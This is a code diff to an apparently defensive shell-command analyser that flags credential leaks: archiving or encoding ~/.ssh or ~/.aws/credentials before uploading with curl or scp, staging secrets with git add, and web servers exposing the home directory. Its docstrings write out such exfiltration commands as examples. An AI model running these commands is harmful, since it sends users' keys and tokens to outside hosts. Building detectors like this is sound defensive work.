@@ -30,6 +30,12 @@ def analyze(view, params: dict) -> list[Fact]:
     program = view.program
     if program == "ssh-keygen":
         return _keygen(view, params)
+    if program == "git":
+        return _git_add(view, params)
+    if program in SERVERS:
+        served = _served(view, params)
+        if served:
+            return served
     entry = senders.get(program)
     if entry is None:
         return []
@@ -49,11 +55,19 @@ def analyze(view, params: dict) -> list[Fact]:
         hit = _stdin(view.cmd, files, params)
     if not hit and kind != "code":
         hit = _by_content(view, words, entry, kind, params)
+    if not hit and kind != "code":
+        hit = _derived(view, _sent_paths(view, words, entry, kind), params)
+    elif not hit and entry.get("network"):  # code that opens a file the line made, and sends
+        net = re.compile(entry["network"])
+        quoted = [m.group(2) for w in words if len(w) < 200_000 and net.search(w)
+                  for m in QUOTED.finditer(w)]
+        hit = _derived(view, quoted[:64], params)
     if not hit:
         return []
     return [Fact("cred.sent", f"{program} sends {hit}", hit)]
 
 
+QUOTED = re.compile(r"""(['"])([^'"\s]{1,4096})\1""")
 # `@FILE`, `name=@FILE`, `name=<FILE` (curl -F, httpie), `FILE:PATH`/`OPEN:PATH` (socat)
 UPLOAD = re.compile(r"(?:^|[=;])[@<]([^;@<]+)|^(?:FILE|OPEN|GOPEN):([^,]+)")
 
@@ -67,25 +81,7 @@ def _by_content(view, words: list[str], entry: dict, kind: str, params: dict) ->
     marks = _marks(params)
     if not marks:
         return ""
-    paths: list[str] = []
-    stdin = view.cmd.stdin
-    if stdin is not None and stdin.kind == "file" and stdin.path:
-        paths.append(stdin.path)
-    if kind == "copy":
-        ok, rest = _subcommand_ok(words, entry)
-        plain = [w for w in rest if not w.startswith("-")] if ok else []
-        if len(plain) >= 2 and REMOTE.match(plain[-1]):
-            paths += [w for w in plain[:-1] if not REMOTE.match(w)]
-    elif kind != "stdin":
-        uploads = frozenset(entry.get("file_options", ()))
-        for i, word in enumerate(words):
-            name, eq, value = word.partition("=")
-            if name in uploads:
-                paths.append(value if eq else (words[i + 1] if i + 1 < len(words) else ""))
-                continue
-            m = UPLOAD.search(word)
-            if m:
-                paths.append((m.group(1) or m.group(2) or "").split(";", 1)[0])
+    paths = _sent_paths(view, words, entry, kind)
     from agentsh.engine.domains.common import read
 
     files = _compiled(params)
@@ -102,6 +98,249 @@ def _by_content(view, words: list[str], entry: dict, kind: str, params: dict) ->
         text = read(path, view.ctx)
         if text and any(m.search(text[:65536]) for m in marks):
             return f"{path} (its text is a credential)"
+    return ""
+
+
+def _sent_paths(view, words: list[str], entry: dict, kind: str) -> list[str]:
+    """The files a sender reads to send: its standard input file, a copy's local sources, the
+    values of its upload options and `@FILE` words."""
+    paths: list[str] = []
+    stdin = view.cmd.stdin
+    if stdin is not None and stdin.kind == "file" and stdin.path:
+        paths.append(stdin.path)
+    if kind == "copy":
+        ok, rest = _subcommand_ok(words, entry)
+        plain = [w for w in rest if not w.startswith("-")] if ok else []
+        if len(plain) >= 2 and REMOTE.match(plain[-1]):
+            paths += [w for w in plain[:-1] if not REMOTE.match(w)]
+    elif kind != "stdin":
+        if entry.get("subcommands"):  # `gh release upload v1 FILE`, `gh gist create FILE`
+            ok, rest = _subcommand_ok(words, entry)
+            paths += [w for w in rest if ok and not w.startswith("-")]
+        uploads = frozenset(entry.get("file_options", ()))
+        for i, word in enumerate(words):
+            name, eq, value = word.partition("=")
+            if name in uploads:
+                paths.append(value if eq else (words[i + 1] if i + 1 < len(words) else ""))
+                continue
+            m = UPLOAD.search(word)
+            if m:
+                paths.append((m.group(1) or m.group(2) or "").split(";", 1)[0])
+    return paths
+
+
+LOOK_BACK = 200  # earlier commands of the line read for what they made from a credential
+OUTPUT_OPS = frozenset((">", ">>", ">|", "&>", "&>>"))
+
+
+def _derived(view, sent: list[str], params: dict) -> str:
+    """A file the line made from a credential before sending it: archived, encoded, encrypted,
+    compressed or copied first (`tar czf x.tgz ~/.ssh && curl -T x.tgz URL`, `base64
+    ~/.aws/credentials > n.txt; curl -d @n.txt URL`, `cp -r ~/.ssh k && zip -r k.zip k && scp
+    k.zip host:`). What a command that reads a credential (or such a file) writes is taken to
+    hold it: its redirects' targets and every operand it names. Judged from the text, so the
+    file need not exist yet; a sender's piped standard input counts its producers' operands."""
+    if not view.index or not view.line:
+        return ""
+    stdin = view.cmd.stdin
+    if stdin is not None and stdin.kind == "pipe":
+        sent = sent + [w for argv in (stdin.upstream or ((stdin.producer,) if stdin.producer
+                                                        else ())) for w in argv[1:]]
+    sent = [p for p in sent if p and p != "-" and not p.startswith("-")]
+    if not sent:
+        return ""
+    files = _compiled(params)
+    home = view.env("HOME") or ""
+    made: dict[str, str] = {}
+    for cmd in view.line[max(0, view.index - LOOK_BACK):view.index]:
+        if not cmd.words:
+            continue
+        origin = _reads(cmd, files, made, home)
+        if not origin:
+            continue
+        for word in _operands(cmd):
+            key = _key(word, cmd.cwd, home)
+            if key:
+                made.setdefault(key, origin)
+    if not made:
+        return ""
+    for path in sent:
+        key = _key(path, view.cmd.cwd, home)
+        if not key:
+            continue
+        for place, origin in made.items():
+            if key == place or key.startswith(place.rstrip("/") + "/"):
+                return f"{path} (made from {origin} earlier in the line)"
+    return ""
+
+
+def _reads(cmd, files, made: dict, home: str) -> str:
+    """The credential a command reads (named, or a file the line made from one), or ""."""
+    words = [w.text for w in cmd.words[1:]][:256]
+    stdin = cmd.stdin
+    if stdin is not None and stdin.kind == "file" and stdin.path:
+        words.append(stdin.path)
+    elif stdin is not None and stdin.kind == "pipe":
+        words += [w for argv in (stdin.upstream or ((stdin.producer,) if stdin.producer
+                                                    else ())) for w in argv[1:]][:256]
+    for word in words:
+        hit = credential(word, files)
+        if hit:
+            return hit
+        key = _key(word.partition("=")[2] if word.startswith("-") else word, cmd.cwd, home)
+        if key in made:
+            return made[key]
+    return ""
+
+
+def _operands(cmd) -> list[str]:
+    """What a command may have written: its output redirects' targets, and every word it names
+    that is not an option (an option's `=VALUE` included: `--output=x.gpg`)."""
+    out = [r.target.text for r in cmd.redirects if r.op in OUTPUT_OPS and r.target is not None]
+    for word in (w.text for w in cmd.words[1:256]):
+        if word.startswith("-"):
+            value = word.partition("=")[2]
+            if value:
+                out.append(value)
+            continue
+        out.append(word)
+    return out
+
+
+def _key(word: str, cwd: str | None, home: str) -> str:
+    """A word as an absolute, normal path where it can be (`~` through HOME), else as written."""
+    import posixpath
+
+    if not word or "$" in word or len(word) > 4096:
+        return ""
+    if word == "~" or word.startswith("~/"):
+        if not home:
+            return posixpath.normpath(word)
+        word = home + word[1:]
+    if not word.startswith("/") and cwd:
+        word = posixpath.join(cwd, word)
+    return posixpath.normpath(word)
+
+
+def _git_add(view, params: dict) -> list[Fact]:
+    """`git add -f .env`, `git add id_ed25519`, `git add creds.txt` after `cp
+    ~/.aws/credentials creds.txt`: a credential staged for a commit, which a push then publishes
+    to everyone who can read the repository (and its history keeps it after a later delete).
+    `git add -f .` (or `-A`) stages every ignored file, a `.env` among them."""
+    words = [w.text for w in view.cmd.words[1:]]
+    plain = [w for w in words if not w.startswith("-")]
+    sub = next((w for w in plain[:3] if w in ("add", "stage")), "")
+    if not sub:  # `git -C DIR add`, `git -c k=v add`; `git stage` is `git add`
+        return []
+    files = _compiled(params)
+    rest = words[words.index(sub) + 1:]
+    forced = any(w in ("-f", "--force") or (w.startswith("-") and not w.startswith("--") and
+                                             "f" in w[1:]) for w in rest)
+    operands = [w for w in rest if not w.startswith("-")]
+    hit = ""
+    for word in operands:
+        hit = credential(word if "/" in word else "./" + word, files)  # `git add id_rsa`
+        if hit:
+            hit = word
+            break
+    if not hit and forced and (not operands or any(w in (".", "*", ":/", "./", ":/*") or
+                                                   w.endswith("/.") for w in operands)):
+        hit = "every file .gitignore keeps out (a .env, keys)"
+    if not hit:
+        hit = _derived(view, operands, params)
+    if not hit:
+        return []
+    return [Fact("cred.staged", f"git add stages {hit}", hit)]
+
+
+# programs that serve a directory's files over HTTP: how to find the directory (an option's
+# value, the first operand, else where it runs)
+SERVERS = frozenset(("python", "python2", "python3", "npx", "pnpx", "bunx", "yarn", "pnpm",
+                     "http-server", "serve", "live-server", "php", "ruby", "busybox", "caddy"))
+# the folders that hold every account's home, and another account's home
+HOMES = re.compile(r"^/(?:home|Users|root)(?:/[^/]+)?/?$")
+PY_SERVE = frozenset(("http.server", "SimpleHTTPServer"))
+NODE_SERVE = re.compile(r"^(?:serve|http-server|live-server)(?:@[\w.^~-]+)?$")
+DIR_OPTIONS = frozenset(("-d", "--directory", "-t", "--docroot", "-h", "--home", "--root"))
+# node servers' options that take a value (the directory is their first other operand)
+NODE_VALUES = frozenset(("-p", "--port", "-l", "--listen", "-a", "--address", "-c", "--config",
+                         "--ssl-cert", "--ssl-key", "-C", "--cert", "-K", "--key", "-e", "--ext"))
+
+
+def _served(view, params: dict) -> list[Fact]:
+    """`python3 -m http.server --directory ~`, `cd ~ && python3 -m http.server`, `npx serve ~`,
+    `php -S 0.0.0.0:8000 -t ~`: a web server whose root holds the home directory (or is a
+    credentials directory), so every key and token in it can be downloaded by whoever reaches
+    the port. A project's own directory (`python3 -m http.server` in ~/project) is not this."""
+    words = [w.text for w in view.cmd.words[1:]]
+    root = _server_root(view.program, words)
+    if root is None:
+        return []
+    home = (view.env("HOME") or "").rstrip("/")
+    files = _compiled(params)
+    # where it may run: `cd ~; python3 -m http.server` runs in ~ unless the cd fails
+    cwds = [res.cwd for res in view.resolvers] or [view.cmd.cwd or ""]
+    for cwd in cwds:
+        where = _key(root, cwd, home) if root else (cwd or "")
+        if not where or not where.startswith("/"):
+            continue  # only known at run time
+        exposed = ""
+        if where == "/" or (home and (where == home or home.startswith(where.rstrip("/") + "/"))) \
+                or HOMES.match(where):
+            exposed = f"{where} (holds the home directory)"
+        elif credential(where, files):
+            exposed = f"{where} (a credentials directory)"
+        if exposed:
+            return [Fact("cred.served", f"{view.program} serves {exposed}", where)]
+    return []
+
+
+def _server_root(program: str, words: list[str]) -> str | None:
+    """The directory a server serves ("" for where it runs), or None when it is no server."""
+    def option_value(opts) -> str:
+        for i, w in enumerate(words):
+            name, eq, value = w.partition("=")
+            if name in opts:
+                return value if eq else (words[i + 1] if i + 1 < len(words) else "")
+        return ""
+
+    if program.startswith("python"):
+        if not any(words[i] == "-m" and i + 1 < len(words) and words[i + 1] in PY_SERVE
+                   for i in range(len(words))) and not any(
+                w[:2] == "-m" and w[2:] in PY_SERVE for w in words):
+            return None
+        return option_value(("-d", "--directory"))
+    if program == "php":
+        return option_value(("-t",)) if "-S" in words else None
+    if program == "ruby":
+        if "-run" not in words or "httpd" not in words:
+            return None
+        rest = words[words.index("httpd") + 1:]
+        return next((w for i, w in enumerate(rest) if not w.startswith("-") and
+                     (i == 0 or rest[i - 1] not in ("-p", "--port", "-b", "--bind-address"))), "")
+    if program == "busybox":
+        return option_value(("-h",)) if "httpd" in words[:1] else None
+    if program == "caddy":
+        return option_value(("--root", "-r")) if "file-server" in words[:1] else None
+    rest = words
+    if program in ("npx", "pnpx", "bunx", "yarn", "pnpm"):
+        i = 0
+        while i < len(rest) and (rest[i].startswith("-") or rest[i] in ("dlx", "exec")):
+            i += 1 + (rest[i] in ("-p", "--package"))
+        if i >= len(rest) or not NODE_SERVE.match(rest[i]):
+            return None
+        rest = rest[i + 1:]
+    elif not NODE_SERVE.match(program):
+        return None
+    skip = False
+    for word in rest:
+        if skip:
+            skip = False
+            continue
+        if word.startswith("-"):
+            skip = word in NODE_VALUES
+            continue
+        return word
     return ""
 
 
